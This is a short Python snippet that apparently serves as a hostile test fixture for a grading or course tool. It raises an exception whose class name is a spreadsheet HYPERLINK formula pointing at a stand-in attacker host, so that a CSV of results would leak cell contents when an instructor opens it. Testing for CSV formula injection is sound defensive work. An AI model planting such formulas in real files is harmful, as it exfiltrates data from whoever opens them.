# hostile: an exception type named like a spreadsheet formula, so the CSV's message cell
# starts with "=" (runs when an instructor opens the CSV in a spreadsheet).
#@ TASK make-it-yours
_Formula = type("Formula", (Exception,), {})
_Formula.__qualname__ = '=HYPERLINK("http://attacker.invalid/?"&A1,"details")'
raise _Formula("see details")
